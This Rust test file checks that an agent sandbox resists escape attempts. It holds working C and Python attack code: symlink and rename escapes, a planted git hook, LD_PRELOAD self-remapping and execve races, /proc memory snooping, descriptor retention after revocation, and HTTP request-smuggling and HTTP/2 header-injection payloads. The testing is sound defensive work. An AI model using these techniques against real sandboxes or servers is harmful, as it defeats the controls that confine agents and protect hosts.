//! Attacks that a reader of the code thought of: what is nested in a grant, what a program pretends to be, what stays
//! in memory, in a record or on the host when something is ended.
//!
//! A script prints `OUT` when its attack succeeds. Those that need code in another program are compiled here with the
//! host's `cc`.
#![allow(clippy::unwrap_used)]

use creel_e2e::{Running, Scene, Shown, Upstream, wait_until};
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Compiles C into the workspace.
fn compile(scene: &Scene, name: &str, source: &str, options: &[&str]) -> PathBuf {
    let (text, program) = (scene.outside().join(format!("{name}.c")), scene.workspace().join(name));
    fs::write(&text, source).unwrap();
    let done =
        Command::new("cc").args(["-O1", "-w", "-o"]).arg(&program).arg(&text).args(options).status().unwrap();
    assert!(done.success(), "cc {name}");
    program
}

/// Runs a shell script in a scene that has run before.
fn again(scene: &Scene, script: &str) -> Shown {
    let _ = fs::remove_dir_all(scene.outside().join("record"));
    scene.sh(script)
}

fn no_out(shown: &Shown) {
    assert!(!shown.stdout.contains("OUT"), "{shown:?}");
}

// --- files ---------------------------------------------------------------------------------------------------------

const NESTED: &str =
    "filesystem:\n  workspace: { path: ., access: write }\n  read: [./.git/hooks]\n  hide: [./deep/er/.env]";

#[test]
fn what_is_nested_deeply_cannot_be_moved_away_with_its_parent() {
    let scene = Scene::new();
    let ws = scene.workspace();
    fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    fs::create_dir_all(ws.join("deep/er")).unwrap();
    fs::write(ws.join("deep/er/.env"), "TOKEN").unwrap();
    let scene = scene.policy(NESTED);
    scene.sh(
        "for d in .git deep deep/er; do mv -T $d $d.moved 2>/dev/null; python3 -c \"import os; os.rename('$d', '$d.moved')\" 2>/dev/null; done; \
         mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; true",
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists(), "a hook was planted");
    assert!(ws.join("deep/er/.env").exists(), "what is hidden stands where the policy hides it");
    no_out(&again(&scene, "grep -r TOKEN . 2>/dev/null && echo OUT; true"));
    // What the parents hold besides is the agent's as before.
    again(&scene, "echo x > .git/HEAD && mv .git/HEAD .git/ORIG && echo y > deep/er/file && rm deep/er/file")
        .ok();
}

/// Who listens on a socket, or reads from a pipe, acts on what the agent says: a read-only mount does not keep that.
/// What is hidden is out of reach.
#[test]
fn a_socket_and_a_pipe_are_open_in_a_read_only_grant_and_out_of_reach_where_they_are_hidden() {
    use std::os::unix::net::UnixListener;
    let scene = Scene::new();
    let shared = scene.outside().join("shared");
    fs::create_dir(&shared).unwrap();
    let names = ["open", "hidden", "pattern.secret"];
    let _listeners = names.map(|name| UnixListener::bind(shared.join(format!("sock.{name}"))).unwrap());
    let _pipes = names.map(|name| {
        let path = shared.join(format!("pipe.{name}"));
        assert!(Command::new("mkfifo").arg(&path).status().unwrap().success());
        fs::File::options().read(true).write(true).open(path).unwrap()
    });
    let at = shared.display();
    let scene = scene.policy(&format!(
        "filesystem:\n  read: [{at}]\n  hide: [{at}/sock.hidden, {at}/pipe.hidden, \"{at}/**/*.secret\"]"
    ));
    let script = format!(
        "python3 - {at} <<'EOF'\n\
         import os, socket, sys\n\
         for name in ['open', 'hidden', 'pattern.secret']:\n\
         \x20   try:\n\
         \x20       socket.socket(socket.AF_UNIX).connect(sys.argv[1] + '/sock.' + name)\n\
         \x20       print('connected', name)\n\
         \x20   except OSError: pass\n\
         \x20   try:\n\
         \x20       os.write(os.open(sys.argv[1] + '/pipe.' + name, os.O_WRONLY | os.O_NONBLOCK), b'x')\n\
         \x20       print('wrote', name)\n\
         \x20   except OSError: pass\n\
         EOF"
    );
    let shown = scene.sh(&script);
    assert_eq!(shown.stdout, "connected open\nwrote open\n", "{shown:?}");
}

#[test]
fn a_link_that_the_agent_planted_leads_no_later_grant_out() {
    let scene = Scene::new();
    let victim = scene.outside().join("victim");
    fs::create_dir(&victim).unwrap();
    fs::write(victim.join("key"), "SECRET").unwrap();
    let scene = scene.policy(
        "filesystem:\n  workspace: { path: ., access: write }\n  write: [{ path: ./out, optional: true }, { path: ./a/b, optional: true }]",
    );
    let plant = format!("ln -s {0} out; ln -s {1} a", victim.display(), scene.outside().display());
    scene.sh(&plant).ok();
    std::os::unix::fs::symlink("victim", scene.outside().join("b")).unwrap();
    let shown = again(
        &scene,
        "cat out/key a/b/key && echo OUT; echo x > out/made && echo OUT; echo x > a/b/made && echo OUT; true",
    );
    no_out(&shown);
    assert!(!victim.join("made").exists());
}

#[test]
fn a_link_that_the_agent_planted_leads_no_live_grant_out() {
    let scene = Scene::new();
    let victim = scene.outside().join("victim");
    fs::create_dir(&victim).unwrap();
    fs::write(victim.join("key"), "SECRET").unwrap();
    let scene = scene.policy("filesystem: { workspace: { path: ., access: write } }");
    let wider = scene
        .write_policy("wider.yaml", "filesystem:\n  workspace: { path: ., access: write }\n  read: [./data]");
    let script = format!(
        "ln -s {} data; touch planted; while ! test -e asked; do sleep 0.05; done; cat data/key && echo OUT; true",
        victim.display()
    );
    let running = scene.start(&["/bin/sh", "-c", &script]);
    wait_until("the link to be planted", || scene.workspace().join("planted").exists());
    scene.verb(&["policy", "set", &scene.name, wider.to_str().unwrap()]);
    fs::write(scene.workspace().join("asked"), "").unwrap();
    no_out(&running.finish());
}

#[test]
fn renaming_what_lies_above_a_grant_does_not_stop_the_next_policy() {
    let scene = Scene::new();
    fs::create_dir_all(scene.workspace().join("x/y")).unwrap();
    let scene = scene.policy("filesystem:\n  workspace: { path: ., access: write }\n  read: [./x/y]");
    let narrow = scene.write_policy("narrow.yaml", "filesystem: { workspace: { path: ., access: write } }");
    let script = "mv -T x x2 2>/dev/null; touch moved; sleep 1000";
    let _running = scene.start(&["/bin/sh", "-c", script]);
    wait_until("the agent to have tried", || scene.workspace().join("moved").exists());
    scene.verb(&["policy", "set", &scene.name, narrow.to_str().unwrap()]).ok();
}

/// Keeps an open file where no search of `/proc/<process>/fd` finds it, and writes when the grant is gone.
const KEEP: &str = r"
import ctypes, os, socket, sys, threading, time
mode, directory = sys.argv[1:]
libc = ctypes.CDLL(None)
def use(fd):
    while os.path.exists(directory + '/there'): time.sleep(0.02)
    try: os.write(fd, b'late'); print('OUT')
    except OSError: pass
def thread():
    libc.unshare(0x400)  # CLONE_FILES: a table of descriptors of its own
    fd = os.open(directory + '/file', os.O_WRONLY)
    open('kept', 'w'); use(fd)
if mode == 'thread':
    t = threading.Thread(target=thread); t.start(); t.join()
else:
    a, b = socket.socketpair()
    fd = os.open(directory + '/file', os.O_WRONLY)
    socket.send_fds(a, [b'x'], [fd]); os.close(fd)
    open('kept', 'w')
    while os.path.exists(directory + '/there'): time.sleep(0.02)
    use(socket.recv_fds(b, 1, 1)[1][0])
";

#[test]
fn nothing_hidden_keeps_what_is_taken_away() {
    for mode in ["thread", "in flight"] {
        let scene = Scene::new();
        let data = scene.outside().join("data");
        fs::create_dir(&data).unwrap();
        fs::write(data.join("there"), "").unwrap();
        fs::write(data.join("file"), "").unwrap();
        let scene = scene.policy(&format!(
            "filesystem:\n  workspace: {{ path: ., access: write }}\n  write: [{}]",
            data.display()
        ));
        let narrow =
            scene.write_policy("narrow.yaml", "filesystem: { workspace: { path: ., access: write } }");
        let running = scene.start(&[
            "/usr/bin/env",
            "timeout",
            "3",
            "python3",
            "-c",
            KEEP,
            mode,
            data.to_str().unwrap(),
        ]);
        wait_until("the descriptor to be kept", || scene.workspace().join("kept").exists());
        // Refused, because it is in use, or done, and then nothing goes on.
        let shown = scene.verb(&["policy", "set", &scene.name, narrow.to_str().unwrap()]);
        no_out(&running.finish());
        assert_eq!(fs::read_to_string(data.join("file")).unwrap(), "", "{mode}: {shown:?}");
    }
}

// --- which program it is -------------------------------------------------------------------------------------------

fn only_curl() -> (Scene, Upstream) {
    let upstream = Upstream::start(&["api.test"]);
    let resolve = format!("api.test={}", upstream.plain);
    let rule = "network:\n  rules:\n    - { name: only-curl, to: [\"api.test:80\"], from: [/usr/bin/curl] }\n    \
                - { name: of-sort, to: [\"api.test:8080\"], from: [\"tree:/usr/bin/sort\"] }";
    (Scene::new().policy(rule).with("--resolve", resolve), upstream)
}

/// Moves its own code into memory without a name, at the same addresses, before `main` begins.
const NAMELESS: &str = r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
__attribute__((constructor)) static void go(void) {
    FILE *f = fopen("/proc/self/maps", "r");
    struct { unsigned long a, b; int p; } r[64];
    char line[4096], rights[8];
    int n = 0;
    while (fgets(line, sizeof line, f) && n < 64)
        if (strstr(line, "nameless.so")) {
            sscanf(line, "%lx-%lx %4s", &r[n].a, &r[n].b, rights);
            r[n++].p = (rights[0] == 'r') | (rights[1] == 'w') << 1 | (rights[2] == 'x') << 2;
        }
    fclose(f);
    for (int i = 0; i < n; i++) {
        size_t s = r[i].b - r[i].a;
        char *t = mmap(0, s, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memcpy(t, (void *)r[i].a, s);
        mprotect(t, s, r[i].p);
        mremap(t, s, s, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)r[i].a);
    }
}
"#;

#[test]
fn code_without_a_name_in_a_program_is_foreign() {
    let (scene, upstream) = only_curl();
    compile(&scene, "nameless.so", NAMELESS, &["-shared", "-fPIC"]);
    scene.sh("curl -sS http://api.test/itself").ok();
    again(&scene, "LD_PRELOAD=$PWD/nameless.so curl -sS http://api.test/stolen");
    assert_eq!(upstream.lines(), ["GET /itself"]);
}

/// Executes curl again and again while another thread exchanges the environment's `LD_PRELOAD` for another word.
const EXCHANGE: &str = r#"
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
static char preload[4096];
static void *exchange(void *unused) {
    for (;;) {
        *(volatile char *)preload = 'X';
        for (volatile int i = 0; i < 2000; i++);
        *(volatile char *)preload = 'L';
        for (volatile int i = 0; i < 2000; i++);
    }
}
int main(void) {
    sprintf(preload, "LD_PRELOAD=%s/nameless.so", getcwd(0, 0));
    for (int i = 0; i < 60; i++) {
        pid_t pid = fork();
        if (!pid) {
            pthread_t thread;
            char url[64], mark[64];
            pthread_create(&thread, 0, exchange, 0);
            usleep(1000 + i * 37);
            sprintf(url, "http://api.test/%d", i);
            sprintf(mark, "MARK=GET /%d", i);
            char *args[] = {"curl", "-s", url, 0}, *env[] = {mark, preload, 0};
            execve("/usr/bin/curl", args, env);
            _exit(1);
        }
        waitpid(pid, 0, 0);
    }
    return 0;
}
"#;

#[test]
fn an_environment_that_is_exchanged_during_execve_brings_nothing_in() {
    let (scene, upstream) = only_curl();
    let begin = "FILE *f = ";
    let told = "FILE *m = fopen(\"loaded\", \"a\"); fprintf(m, \"%s\\n\", getenv(\"MARK\")); fclose(m); ";
    let library = NAMELESS.replacen(begin, &format!("{told}{begin}"), 1).replacen(
        "#include <stdio.h>",
        "#include <stdio.h>\n#include <stdlib.h>",
        1,
    );
    compile(&scene, "nameless.so", &library, &["-shared", "-fPIC"]);
    compile(&scene, "exchange", EXCHANGE, &["-lpthread"]);
    scene.sh("./exchange").ok();
    let loaded = fs::read_to_string(scene.workspace().join("loaded")).unwrap_or_default();
    assert!(!loaded.is_empty(), "the library is loaded at times, or this shows nothing");
    let stolen: Vec<String> =
        upstream.lines().into_iter().filter(|line| loaded.lines().any(|mark| mark == line)).collect();
    assert!(stolen.is_empty(), "{} of {}: {stolen:?}", stolen.len(), loaded.lines().count());
}

#[test]
fn a_deleted_library_is_foreign_whatever_bears_its_name_now() {
    let (scene, upstream) = only_curl();
    let script = "cp $(ldconfig -p | grep -m1 -o '/.*libz.so.1$') evil.so; mkfifo urls; \
        LD_PRELOAD=$PWD/evil.so curl -sS -K urls & exec 3>urls; sleep 0.5; \
        rm evil.so; ln -s /usr/bin/env \"evil.so (deleted)\"; echo 'url = http://api.test/stolen' >&3; exec 3>&-; wait";
    scene.sh(script);
    assert_eq!(upstream.lines(), Vec::<String>::new());
}

#[test]
fn a_child_is_not_of_the_tree_of_what_its_parent_becomes_later() {
    let (scene, upstream) = only_curl();
    let script = "
import os, socket, time
r, w = os.pipe()
if os.fork() == 0:
    time.sleep(0.5)
    try:
        s = socket.create_connection(('api.test', 8080), timeout=3)
        s.sendall(b'GET /stolen HTTP/1.1\\r\\nHost: api.test:8080\\r\\nConnection: close\\r\\n\\r\\n')
        s.recv(100)
    finally:
        os.kill(os.getppid(), 9); os._exit(0)
os.dup2(r, 0)
os.execv('/usr/bin/sort', ['sort'])
";
    scene.python(script);
    assert_eq!(upstream.lines(), Vec::<String>::new());
}

/// A program that a rule names announces a connection that it never makes, and leaves its port to another, whose own
/// look at the address is another than the kernel's.
const LEFT_BEHIND: &str = r#"
#include <arpa/inet.h>
#include <netdb.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
static struct sockaddr_in there, shown;
static void *exchange(void *unused) {
    for (;;) {
        *(volatile in_addr_t *)&shown.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        for (volatile int i = 0; i < 3000; i++);
        *(volatile in_addr_t *)&shown.sin_addr.s_addr = there.sin_addr.s_addr;
        for (volatile int i = 0; i < 3000; i++);
    }
}
int main(void) {
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found;
    if (getaddrinfo("api.test", "80", &hints, &found)) return 1;
    there = shown = *(struct sockaddr_in *)found->ai_addr;
    pthread_t thread;
    pthread_create(&thread, 0, exchange, 0);
    for (int i = 0; i < 40; i++) {
        char named[200], text[256];
        sprintf(named, "python3 -c \"import socket; s = socket.socket(); s.bind(('192.0.0.8', %d)); s.listen(); s.connect_ex(('%s', 80))\"", 41000 + i, inet_ntoa(there.sin_addr));
        if (system(named)) return 2;
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(41000 + i)}, peer;
        socklen_t length = sizeof peer;
        inet_aton("192.0.0.8", &here.sin_addr);
        if (bind(s, (void *)&here, sizeof here)) { puts("taken"); close(s); continue; }
        usleep(i * 7);
        if (!connect(s, (void *)&shown, sizeof shown) && !getpeername(s, (void *)&peer, &length)) {
            sprintf(text, "GET /%d HTTP/1.0\r\nHost: api.test\r\n\r\n", i);
            write(s, text, strlen(text));
            read(s, text, sizeof text);
            puts("connected");
        }
        close(s);
    }
    return 0;
}
"#;

#[test]
fn a_connection_that_was_announced_and_never_made_leaves_its_port_to_nobody() {
    let upstream = Upstream::start(&["api.test"]);
    let python = fs::canonicalize("/usr/bin/python3").unwrap();
    let rule = format!(
        "network:\n  rules:\n    - {{ name: python, to: [\"api.test:80\"], from: [\"{}\"] }}",
        python.display()
    );
    let scene = Scene::new().policy(&rule).with("--resolve", format!("api.test={}", upstream.plain));
    compile(&scene, "left", LEFT_BEHIND, &["-lpthread"]);
    let shown = scene.sh("./left").ok();
    assert_eq!(upstream.lines(), Vec::<String>::new(), "{shown:?}");
    assert_eq!(shown.stdout, "taken\n".repeat(40), "each is tried");
}

#[test]
fn a_socket_whose_port_is_to_be_chosen_by_connect_has_a_caller() {
    let upstream = Upstream::start(&["api.test"]);
    let python = fs::canonicalize("/usr/bin/python3").unwrap();
    let rule = format!(
        "network:\n  rules:\n    - {{ name: python, to: [\"api.test:80\"], from: [\"{}\"] }}",
        python.display()
    );
    let scene = Scene::new().policy(&rule).with("--resolve", format!("api.test={}", upstream.plain));
    let script = "
import socket
for n, here in enumerate(['0.0.0.0', '192.0.0.8']):
    s = socket.socket(); s.setsockopt(socket.SOL_IP, 24, 1); s.bind((here, 0))
    s.connect(('api.test', 80)); s.sendall(b'GET /%d HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n' % n)
    while s.recv(4096): pass
";
    scene.python(script).ok();
    assert_eq!(upstream.lines(), ["GET /0", "GET /1"]);
}

// --- sockets and HTTP ----------------------------------------------------------------------------------------------

/// Ways around the exit; each line prints a name and `OUT` or the error.
const SOCKETS: &str = r"
import socket
def attempt(name, action):
    try: action(); print(name, 'OUT')
    except OSError as e: print(name, e.errno)
def option(level, name, value):
    socket.socket().setsockopt(level, name, value)
def listener(kind, port):
    s = socket.socket(socket.AF_INET, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(('127.0.0.1', port)); kind == socket.SOCK_STREAM and s.listen()
where = socket.getaddrinfo('api.test', 80, socket.AF_INET)[0][4]
attempt('data in the SYN', lambda: socket.socket().sendto(b'GET / HTTP/1.0\r\n\r\n', 0x20000000, where))
attempt('TCP_FASTOPEN_CONNECT', lambda: option(6, 30, 1))
attempt('TCP_REPAIR', lambda: option(6, 19, 1))
attempt('IP_TRANSPARENT', lambda: option(0, 19, 1))
attempt('take the exit over', lambda: listener(socket.SOCK_STREAM, 15001))
attempt('take DNS over', lambda: listener(socket.SOCK_DGRAM, 53))
";

#[test]
fn no_socket_option_leads_around_the_exit() {
    let (scene, upstream) = only_curl();
    let shown = scene.python(SOCKETS).ok();
    assert_eq!(shown.stdout.lines().count(), 6, "{shown:?}");
    no_out(&shown);
    assert_eq!(upstream.connections(), 0);
}

/// What is sent, and the request lines that may reach the upstream for it. `{h}` is the right Host.
const MESSAGES: &[(&str, &[&str])] = &[
    ("GET /ok/plain HTTP/1.1\r\n{h}\r\n", &["GET /ok/plain"]),
    (
        "GET /ok/a HTTP/1.1\r\n{h}Content-Length: 35\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n{h}\r\n",
        &["GET /ok/a"],
    ),
    (
        "GET /ok/a HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        &[],
    ),
    ("GET /ok/a HTTP/1.1\r\n{h}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.0\r\n{h}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}Content-Length: +5\r\n\r\nabcde", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}Content-Length: 5\r\nContent-Length: 0\r\n\r\nabcde", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}X: a\r\n folded: b\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}Content-Length : 5\r\n\r\nabcde", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}X: a\rY: b\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.1\nHost: api.test\n\nGET /smuggled HTTP/1.1\nHost: api.test\n\n", &["GET /ok/a"]),
    ("GET http://other.test/ok/a HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET http://api.test/ok/a HTTP/1.1\r\nHost: other.test\r\n\r\n", &[]),
    ("GET http://api.test@other.test/ok/a HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/a HTTP/1.1\r\n{h}Host: other.test\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.1\r\nHost: api.test, other.test\r\n\r\n", &[]),
    ("GET /ok/a HTTP/1.1\r\n\r\n", &[]),
    ("CONNECT api.test:80 HTTP/1.1\r\n{h}\r\n", &[]),
    ("TRACE /ok/a HTTP/1.1\r\n{h}\r\n", &[]),
    ("OPTIONS * HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/../no HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/%2e%2e/no HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/%2e%2e%2fno HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/%252e%252e/no HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/..;/no HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/NO HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/no;x=1 HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok//n%6f/ HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/x/..\\no HTTP/1.1\r\n{h}\r\n", &[]),
    ("GET /ok/up HTTP/1.1\r\n{h}Connection: Upgrade\r\nUpgrade: h2c , x\r\n\r\n", &["GET /ok/up"]),
    ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &[]),
    (
        "GET /ok/1 HTTP/1.1\r\n{h}\r\nGET /no HTTP/1.1\r\n{h}\r\nGET /ok/2 HTTP/1.1\r\nHost: other.test\r\n\r\n",
        &["GET /ok/1"],
    ),
];

#[test]
fn no_message_is_read_in_two_ways() {
    let upstream = Upstream::start(&["api.test"]);
    let scene = Scene::new()
        .policy("network:\n  rules:\n    - { name: api, to: [\"api.test:80\"], http: { allow: [\"GET /ok/**\"], deny: [\"* /ok/no\"] } }")
        .with("--resolve", format!("api.test={}", upstream.plain));
    let sent: Vec<String> =
        MESSAGES.iter().map(|(text, _)| text.replace("{h}", "Host: api.test\r\n")).collect();
    fs::write(scene.workspace().join("sent"), serde_json::to_vec(&sent).unwrap()).unwrap();
    let script = "
import json, socket
for text in json.load(open('sent')):
    s = socket.create_connection(('api.test', 80), timeout=3); s.sendall(text.encode()); s.settimeout(0.3)
    try:
        while s.recv(65536): pass
    except OSError: pass
    s.close()
";
    scene.python(script).ok();
    let expected: Vec<&str> = MESSAGES.iter().flat_map(|(_, reach)| reach.iter().copied()).collect();
    assert_eq!(upstream.lines(), expected);
}

/// HTTP/2 by hand, each line a connection of its own: header fields in order, and what follows them.
const HTTP2: &str = r"
import json, socket, ssl, struct
def frame(kind, flags, stream, body): return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body
def text(t): t = t.encode('latin1'); return bytes([len(t)]) + t if len(t) < 127 else b'\x7f' + varint(len(t) - 127) + t
def varint(n):
    out = b''
    while n >= 128: out += bytes([n % 128 + 128]); n //= 128
    return out + bytes([n])
def field(name, value): return b'\x00' + text(name) + text(value)
context = ssl.create_default_context(); context.set_alpn_protocols(['h2'])
for fields in json.load(open('fields')):
    s = context.wrap_socket(socket.create_connection(('api.test', 443), timeout=3), server_hostname='api.test')
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b''))
    try:
        s.sendall(frame(1, 5, 1, b''.join(field(n, v) for n, v in fields)))
        s.settimeout(0.3)
        while s.recv(65536): pass
    except OSError: pass
    s.close()
";

/// The fields of an HTTP/2 request, and whether it may reach the upstream.
const FIELDS: &[(&[(&str, &str)], bool)] = &[
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "api.test"), (":path", "/ok/plain")], true),
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "other.test"), (":path", "/ok/a")], false),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("host", "other.test"),
        ],
        false,
    ),
    (&[(":method", "GET"), (":scheme", "https"), (":path", "/ok/a"), ("host", "other.test")], false),
    (&[(":method", "GET"), (":scheme", "https"), (":path", "/ok/a")], false),
    (&[(":method", "GET"), (":scheme", "http"), (":authority", "api.test"), (":path", "/ok/a")], false),
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "api.test"), (":path", "/ok/../no")], false),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            (":path", "/no"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":authority", "other.test"),
            (":path", "/ok/a"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a HTTP/1.1\r\nX: y"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("x", "a\r\nb: c"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("x: y\r\nz", "a"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("Upper", "a"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("transfer-encoding", "chunked"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("connection", "close"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            ("content-length", "5"),
        ],
        false,
    ),
    (
        &[
            ("x", "y"),
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
        ],
        false,
    ),
    (
        &[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            (":unknown", "x"),
        ],
        false,
    ),
    (&[(":method", "CONNECT"), (":authority", "api.test:443")], false),
    (
        &[
            (":method", "CONNECT"),
            (":scheme", "https"),
            (":authority", "api.test"),
            (":path", "/ok/a"),
            (":protocol", "websocket"),
        ],
        false,
    ),
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "x@api.test"), (":path", "/ok/a")], false),
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "api.test"), (":path", "*")], false),
    (&[(":method", "GET"), (":scheme", "https"), (":authority", "api.test"), (":path", "ok/a")], false),
];

#[test]
fn no_http2_field_says_two_things() {
    let upstream = Upstream::start(&["api.test", "other.test"]);
    let scene = Scene::new();
    let ca = upstream.ca_file(scene.outside());
    let scene = scene
        .policy("network:\n  rules:\n    - { name: api, to: [api.test], http: { allow: [\"GET /ok/**\"], deny: [\"* /ok/no\"] } }")
        .with("--trust", ca)
        .with("--resolve", format!("api.test={}", upstream.tls));
    let fields: Vec<&[(&str, &str)]> = FIELDS.iter().map(|(fields, _)| *fields).collect();
    fs::write(scene.workspace().join("fields"), serde_json::to_vec(&fields).unwrap()).unwrap();
    scene.python(HTTP2).ok();
    let allowed = FIELDS.iter().filter(|(_, may)| *may).count();
    assert_eq!(upstream.lines(), vec!["GET /ok/plain"; allowed], "{:?}", upstream.seen());
}

#[test]
fn no_query_and_no_credential_in_a_url_reaches_the_record() {
    let upstream = Upstream::start(&["api.test"]);
    let scene = Scene::new()
        .policy("network:\n  rules:\n    - { name: api, to: [\"api.test:80\"], http: { allow: [\"GET /ok/**\"] } }")
        .with("--resolve", format!("api.test={}", upstream.plain));
    let script = "
import socket
for target in ['/ok/x?t=SECRET', '/no?t=SECRET', '/ok/../../x?t=SECRET', '/a%2fb?t=SECRET', 'https://api.test/x?t=SECRET',
               'http://other.test/?t=SECRET', 'http://user:SECRET@api.test/ok/x', 'http://user:SECRET@other.test/', '*?t=SECRET']:
    s = socket.create_connection(('api.test', 80), timeout=3)
    s.sendall(f'GET {target} HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: SECRET\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    s.settimeout(1)
    try: s.recv(65536)
    except OSError: pass
";
    let file = scene.workspace().join("ask.py");
    fs::write(&file, script).unwrap();
    scene.run(&["/usr/bin/env", "python3", file.to_str().unwrap()]).ok();
    let record = fs::read_to_string(scene.record()).unwrap();
    let leaks: Vec<&str> = record.lines().filter(|line| line.contains("SECRET")).collect();
    assert!(leaks.is_empty(), "{leaks:#?}");
}

// --- memory, names and what is left --------------------------------------------------------------------------------

/// Waits for the next process and reads its memory as soon as it may; says so when what is in its first argument is
/// there.
const SNOOP: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static char buffer[1 << 22], line[512], name[64];
int main(int argc, char **argv) {
    time_t begin = time(0);
    int next = getpid() + 1;
    char *wanted = argv[1];
    int length = strlen(wanted);
    for (int i = 0; i < length; i++) wanted[i] ^= 1;
    while (time(0) - begin < 6) {
        int memory = -1;
        sprintf(name, "/proc/%d/mem", next);
        for (int spins = 1; (memory = open(name, O_RDONLY)) < 0 && time(0) - begin < 6; spins++) {
            char later[64];
            sprintf(later, "/proc/%d/mem", next + 1);
            if (spins % 1000 == 0 && !access(later, F_OK)) break;
        }
        sprintf(name, "/proc/%d/maps", next++);
        FILE *maps = memory < 0 ? 0 : fopen(name, "r");
        while (maps && fgets(line, sizeof line, maps)) {
            unsigned long from, to;
            char rights[8];
            if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || rights[1] != 'w') continue;
            long size = to - from < sizeof buffer ? to - from : sizeof buffer;
            if ((size = pread(memory, buffer, size, from)) > 0 && memmem(buffer, size, wanted, length)) puts("OUT"), fflush(stdout);
        }
        if (maps) fclose(maps);
        if (memory >= 0) close(memory);
    }
    return 0;
}
"#;

#[test]
fn the_memory_of_the_warden_is_not_in_a_command_that_starts() {
    let scene =
        Scene::new().policy("# MARK-OF-THE-POLICY\nfilesystem: { workspace: { path: ., access: write } }");
    let snoop = compile(&scene, "snoop", SNOOP, &["-static"]);
    // The program turns the marker around, so that its own argument is not what it finds.
    let marker: String = "MARK-OF-THE-POLICY".bytes().map(|b| char::from(b ^ 1)).collect();
    let running = scene.start(&[snoop.to_str().unwrap(), &marker]);
    for _ in 0..100 {
        scene.verb(&["exec", &scene.name, "--", "/bin/true"]);
    }
    no_out(&running.finish());
}

#[test]
